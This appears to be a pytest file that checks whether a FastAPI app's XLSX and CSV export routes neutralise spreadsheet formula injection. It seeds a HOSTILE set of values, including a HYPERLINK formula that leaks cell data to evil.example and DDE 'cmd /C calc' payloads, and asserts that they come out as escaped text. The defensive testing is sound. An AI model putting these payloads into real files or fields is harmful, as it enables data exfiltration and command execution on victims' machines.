"""Nothing a user typed (finding measures, responsible persons, notes) or a workbook brought (intake
names, owners) comes out of an export as something a spreadsheet would run: every export route, in
XLSX and CSV."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import openpyxl
import psycopg
import pytest
from fastapi.testclient import TestClient

from api.auth import Role
from infra.cells import FORMULA_STARTS
from tests.api.conftest import bearer

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "owner": "+cmd|' /C calc'!A0",
    "measure": "@SUM(1+1)*cmd|' /C calc'!A0",
    "responsible": "-2+3+cmd|' /C notepad'!A0",
    "note": "\t=1+1",
}


@pytest.fixture(scope="module")
def hostile(client: TestClient, county_url: str, tokens: dict[Role, str]) -> None:
    operator = bearer(tokens[Role.OPERATOR])
    with psycopg.connect(county_url, autocommit=True) as conn:
        conn.execute(
            "UPDATE intakes SET name = %s, owner = %s WHERE code IN "
            "(SELECT intake_code FROM findings ORDER BY id LIMIT 5)",
            (HOSTILE["name"], HOSTILE["owner"]),
        )
    open_ones = client.get("/api/v1/findings", headers=operator, params={"state": "open"}).json()["items"]
    first, second = open_ones[0]["id"], open_ones[1]["id"]
    deadline = (date.today() + timedelta(days=30)).isoformat()
    for finding in (first, second):
        done = client.post(
            f"/api/v1/findings/{finding}/rectify",
            headers=operator,
            json={"measure": HOSTILE["measure"], "responsible": HOSTILE["responsible"], "deadline": deadline},
        )
        assert done.status_code == 200, done.text
    closed = client.post(f"/api/v1/findings/{second}/close", headers=operator, json={"note": HOSTILE["note"]})
    assert closed.status_code == 200, closed.text


def cells_of(body: bytes, fmt: str) -> list[object]:
    if fmt == "csv":
        return [v for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for v in row]
    book = openpyxl.load_workbook(io.BytesIO(body))
    out: list[object] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
                out.append(cell.value)
    return out


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize(
    ("report", "expected"),
    [
        ("registration", ("name", "owner")),
        ("summary", ("name",)),
        ("ledger", ("name", "owner", "measure", "responsible")),
        ("compliance", ()),
    ],
)
def test_exports_never_hold_a_formula(
    client: TestClient,
    tokens: dict[Role, str],
    hostile: None,
    report: str,
    expected: tuple[str, ...],
    fmt: str,
) -> None:
    answer = client.get(
        f"/api/v1/exports/{report}", headers=bearer(tokens[Role.AUDITOR]), params={"format": fmt}
    )
    assert answer.status_code == 200, answer.text
    cells = cells_of(answer.content, fmt)
    texts = [c for c in cells if isinstance(c, str)]
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
    for field in expected:  # the typed text is there, shown as text
        assert "'" + HOSTILE[field] in texts, f"{field} missing from {report}.{fmt}"
